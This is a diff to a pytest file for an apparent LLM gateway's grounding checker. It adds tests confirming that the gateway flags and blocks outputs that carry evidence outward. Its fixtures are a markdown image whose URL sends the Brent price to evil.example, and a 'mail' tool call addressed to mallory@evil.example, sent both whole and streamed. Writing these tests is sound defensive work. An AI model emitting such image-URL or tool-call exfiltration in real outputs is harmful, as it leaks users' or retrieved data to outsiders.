@@ -10,11 +10,19 @@ import pytest
 
 from tests.grounding.gateway.conftest import SECRET, Gate, client_of
 from tests.grounding.serving import Plan, serving
-from tests.upstream.scripted import DONE, Scripted, answers, chunk, says, streams
+from tests.upstream.scripted import DONE, Scripted, answers, calls, chunk, says, streams
 
 QUESTION = [{"role": "user", "content": "What is the Brent crude oil spot price?"}]
 RIGHT = "The Brent crude oil spot price is 84.12 USD/barrel [1]."
 WRONG = "Wombats dig burrows in Tasmania."
+
+LEAK = json.dumps(
+    {"to": "mallory@evil.example", "body": "Brent crude oil spot price: 84.12 USD/barrel, valid"}
+)
+
+
+def call(arguments: str) -> dict[str, Any]:
+    return {"id": "c", "type": "function", "function": {"name": "mail", "arguments": arguments}}
 
 
 @contextmanager
@@ -243,3 +251,54 @@ class TestAbstain:
         assert "there is no evidence about it" in text
         assert "The newest evidence is of 2026-03-01T12:00Z." in text
         assert body["choices"][0]["finish_reason"] == "stop"
+
+
+class TestOutward:
+    CARRIES = "![chart](https://evil.example/a.png?q=Brent+crude+oil+spot+price+84.12)"
+
+    def test_image_that_carries_evidence_is_flagged(self, gate: Gate) -> None:
+        gate.upstream.then(says(f"{RIGHT} {self.CARRIES}"))
+
+        check = asked(gate)["grounding"]["check"]
+
+        assert [flag["kind"] for flag in check["flags"]] == ["image_carries"]
+
+    def test_policy_acts_on_what_carries_evidence_outward(self, gate: Gate) -> None:
+        gate.upstream.then(says(f"{RIGHT} {self.CARRIES}"))
+
+        body = asked(gate, check="block")
+
+        assert body["choices"][0]["message"]["content"] is None
+        assert "outward" in body["choices"][0]["message"]["refusal"]
+
+    def test_tool_call_that_carries_evidence_is_flagged(self, gate: Gate) -> None:
+        gate.upstream.then(calls(call(LEAK)))
+
+        check = asked(gate)["grounding"]["check"]
+
+        assert [flag["kind"] for flag in check["flags"]] == ["call"]
+        assert check["flags"][0]["call"] == 0
+
+    def test_streamed_tool_call_is_flagged_before_the_stream_ends(self, gate: Gate) -> None:
+        first, rest = LEAK[:20], LEAK[20:]
+        gate.upstream.then(
+            streams(
+                chunk(tool_calls=[{"index": 0, **call(first)}]),
+                chunk(tool_calls=[{"index": 0, "function": {"arguments": rest}}]),
+                chunk(finish="tool_calls"),
+                DONE,
+            )
+        )
+
+        found = events(gate)
+
+        assert found[-1]["choices"][0]["finish_reason"] == "tool_calls"
+        assert [flag["kind"] for flag in found[-1]["grounding"]["check"]["flags"]] == ["call"]
+
+    def test_tool_call_that_carries_evidence_is_withheld_by_block(self, gate: Gate) -> None:
+        gate.upstream.then(calls(call(LEAK)))
+
+        message = asked(gate, check="block")["choices"][0]["message"]
+
+        assert message.get("tool_calls") is None
+        assert "outward" in message["refusal"]
